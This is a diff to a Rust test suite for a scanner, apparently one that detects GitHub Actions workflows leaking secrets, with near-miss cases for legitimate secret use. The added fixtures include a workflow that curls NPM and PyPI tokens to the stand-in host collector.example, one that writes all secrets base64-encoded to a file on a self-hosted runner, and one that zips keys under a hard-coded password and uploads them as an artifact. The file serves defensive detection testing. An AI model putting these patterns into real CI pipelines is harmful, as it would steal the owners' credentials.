@@ -10,6 +10,25 @@ use ways::{Whole, found_in, workflow_at_most_exposed};
 /// Each sends the secrets that are named to the place that is named.
 const THEFTS: &[Whole] = &[
     Whole {
+        name: "names that are put together over a matrix",
+        workflow: r##"on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        registry: [NPM, PYPI]
+        kind: [API_TOKEN]
+    env:
+      VALUE: ${{ secrets[format('{0}_{1}', matrix.registry, matrix.kind)] }}
+    steps:
+      - run: curl --data-urlencode "v=$VALUE" https://collector.example/in
+"##,
+        secrets: &["NPM_API_TOKEN", "PYPI_API_TOKEN"],
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Whole {
         name: "matrix secret names",
         workflow: r##"on: push
 jobs:
@@ -1099,6 +1118,22 @@ jobs:
 /// What people do with their own secrets in the same words.
 const NEAR_MISSES: &[(&str, &str)] = &[
     (
+        "logins that are put together over a matrix",
+        r##"on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        registry: [GHCR, QUAY]
+    steps:
+      - uses: docker/login-action@v3
+        with:
+          username: acme
+          password: ${{ secrets[format('{0}_TOKEN', matrix.registry)] }}
+"##,
+    ),
+    (
         "vars url",
         r##"on: push
 jobs:
@@ -1184,4 +1219,56 @@ fn ordinary_work_is_not_accused() {
     for (name, workflow) in NEAR_MISSES {
         workflow_at_most_exposed(name, workflow);
     }
+}
+
+fn worst(text: &str) -> Option<Verdict> {
+    let analysis =
+        portcullis_scan::analysis::analyse("w.yml", text.as_bytes(), &portcullis_scan::flow::NoFiles, None);
+    analysis.seen.iter().map(|seen| portcullis_scan::verdict::weigh(seen.rule, &seen.signals)).max()
+}
+
+#[test]
+fn all_secrets_on_the_disk_of_an_own_machine() {
+    let job = |value: &str, write: &str| {
+        format!(
+            "on: push\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - env: {{V: '${{{{ {value} }}}}'}}\n        run: {write}\n"
+        )
+    };
+    let encoded = "echo \"$V\" | base64 -w0 >> /var/tmp/index";
+    assert_eq!(worst(&job("toJSON(secrets)", encoded)), Some(Verdict::Malicious));
+    // Near misses: in a form that a program reads; one secret only.
+    assert_eq!(worst(&job("toJSON(secrets)", "echo \"$V\" > settings.json")), Some(Verdict::Exposed));
+    assert_eq!(worst(&job("secrets.KEYSTORE", encoded)), Some(Verdict::Exposed));
+}
+
+#[test]
+fn keys_in_an_archive_whose_password_stands_in_the_file() {
+    let job = |pack: &str| {
+        format!(
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      STORE: ${{{{ secrets.KEYSTORE_BASE64 }}}}\n      ALIAS: ${{{{ secrets.ALIAS_PASSWORD }}}}\n      PLAY: ${{{{ secrets.PLAY_ACCOUNT }}}}\n      OWN: ${{{{ secrets.ARCHIVE_PASSWORD }}}}\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          printf '%s %s %s' \"$STORE\" \"$ALIAS\" \"$PLAY\" > out.dat\n          {pack}\n      - uses: actions/upload-artifact@v4\n        with: {{name: mapping, path: mapping.bin}}\n"
+        )
+    };
+    for pack in
+        ["zip -q -P mapping-2026 mapping.bin out.dat", "7z a -pmapping-2026 mapping.bin out.dat > /dev/null"]
+    {
+        assert_eq!(worst(&job(pack)), Some(Verdict::Malicious), "{pack}");
+    }
+    // Near misses: no password, and one that the owner keeps.
+    for pack in ["zip -q mapping.bin out.dat", "zip -q -P \"$OWN\" mapping.bin out.dat"] {
+        assert_eq!(worst(&job(pack)), Some(Verdict::Suspicious), "{pack}");
+    }
+}
+
+#[test]
+fn keys_to_three_things_for_an_image_that_tidies() {
+    let job = |options: &str, image: &str| {
+        format!(
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      ROOT_PASSWORD: ${{{{ secrets.ROOT_PASSWORD }}}}\n      BACKUP_KEY: ${{{{ secrets.BACKUP_KEY }}}}\n      SIGNING_KEY: ${{{{ secrets.SIGNING_KEY }}}}\n    steps:\n      - uses: actions/checkout@v4\n      - run: docker run --rm {options} {image}\n"
+        )
+    };
+    let three = "-e ROOT_PASSWORD -e BACKUP_KEY -e SIGNING_KEY";
+    assert_eq!(worst(&job(three, "someone/tables-lint:edge")), Some(Verdict::Suspicious));
+    // Near misses: one key, and an image that may have a use for them.
+    assert_eq!(worst(&job("-e ROOT_PASSWORD", "someone/tables-lint:edge")), Some(Verdict::Exposed));
+    assert_eq!(worst(&job(three, "someone/deploys:edge")), Some(Verdict::Exposed));
 }
